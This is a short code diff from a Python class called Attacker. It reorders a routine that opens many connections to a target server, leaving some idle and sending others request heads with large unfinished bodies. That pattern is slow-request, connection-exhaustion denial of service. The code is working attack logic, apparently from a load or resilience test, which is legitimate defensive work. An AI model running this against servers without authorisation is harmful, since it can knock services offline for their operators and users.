@@ -133,11 +133,11 @@ class Attacker:
         head += "Content-Type: application/json\r\nContent-Length: 8000000\r\n\r\n"
         writers = []
         for number in range(BODIES + IDLE):
-            kind = "unfinished bodies" if number < BODIES else "idle connections"
+            kind = "idle connections" if number < IDLE else "unfinished bodies"
             try:
                 _, writer = await asyncio.open_connection(host, port, local_addr=(self.source, 0))
                 writers.append(writer)
-                if number < BODIES:
+                if number >= IDLE:
                     writer.write(head.encode() + bytes(7_999_999))
                     await asyncio.wait_for(writer.drain(), 1)
                 self.ends[kind, "taken"] += 1
